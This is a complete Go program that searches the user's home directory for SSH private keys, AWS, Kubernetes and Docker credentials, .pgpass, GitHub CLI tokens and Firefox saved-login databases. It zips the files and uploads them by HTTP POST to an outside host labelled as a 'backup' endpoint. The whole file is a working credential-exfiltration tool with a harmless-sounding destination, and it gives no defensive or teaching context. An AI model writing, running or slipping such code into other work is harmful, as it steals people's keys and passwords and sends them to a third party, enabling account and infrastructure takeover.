package main

import (
	"archive/zip"
	"bytes"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

var want = []string{".ssh/id_", ".aws/credentials", ".kube/config", ".docker/config.json", "credentials.db", "hosts.yml", ".pgpass", "logins.json", "key4.db"}

func match(p string) bool {
	for _, w := range want {
		if strings.Contains(p, w) {
			return true
		}
	}
	return false
}

func main() {
	home, _ := os.UserHomeDir()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	_ = filepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !match(p) {
			return nil
		}
		f, err := os.Open(p)
		if err != nil {
			return nil
		}
		defer f.Close()
		w, _ := z.Create(strings.TrimPrefix(p, home))
		io.Copy(w, f)
		return nil
	})
	z.Close()
	http.Post("https://backup.example.test/h", "application/zip", &b)
}
